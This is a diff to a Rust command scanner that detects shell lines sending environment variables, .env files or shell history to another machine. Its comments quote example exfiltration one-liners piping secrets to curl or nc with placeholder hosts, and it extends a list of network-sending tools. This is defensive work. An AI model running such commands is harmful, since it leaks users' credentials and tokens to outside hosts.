@@ -232,22 +232,28 @@ fn script_run(c: &Simple) -> Option<String> {
 }
 
 /// Programs that send what they read to another machine.
-const SENDERS: &[&str] = &[
+pub(super) const SENDERS: &[&str] = &[
     "curl", "wget", "nc", "ncat", "netcat", "socat", "ssh", "scp", "telnet", "http", "https", "xh",
     "mail", "sendmail", "mutt", "aws", "gsutil", "rclone",
 ];
 
 /// The whole environment — the tokens it holds with it — piped to a program that sends it
-/// elsewhere (`env | curl -d @- URL`, `printenv | nc host 9`).
+/// elsewhere (`env | curl -d @- URL`, `printenv | nc host 9`, `cat /proc/self/environ |
+/// nc host 9`, `cat .env | curl -d @- URL`, `history | nc host 9`).
 pub fn check_environment_sent(line: &str) -> Option<Finding> {
     let parsed = lex::parse(line);
     let cmds = &parsed.commands;
     cmds.iter().enumerate().find_map(|(i, c)| {
         let name = basename(c.argv.first()?);
-        let whole_env = matches!(
+        let whole_env = (matches!(
             name.as_str(),
-            "env" | "printenv" | "export" | "set" | "declare"
-        ) && c.argv[1..].iter().all(|a| a.starts_with('-'));
+            "env" | "printenv" | "export" | "set" | "declare" | "history"
+        ) && c.argv[1..].iter().all(|a| a.starts_with('-')))
+            || super::secrets::shows_environments(&name, &c.argv[1..])
+            || c.argv[1..]
+                .iter()
+                .chain(&c.reads)
+                .any(|a| super::secrets::is_environment_file(a));
         let sent = whole_env
             && cmds[i + 1..]
                 .iter()
@@ -262,7 +268,8 @@ pub fn check_environment_sent(line: &str) -> Option<Finding> {
             finding(
                 Severity::Warn,
                 "secret_read",
-                "sends the whole environment, and the tokens it holds, to another machine",
+                "sends an environment (variables, a .env file or the shell's history) and the \
+                 tokens it holds to another machine",
                 &c.argv,
             )
         })
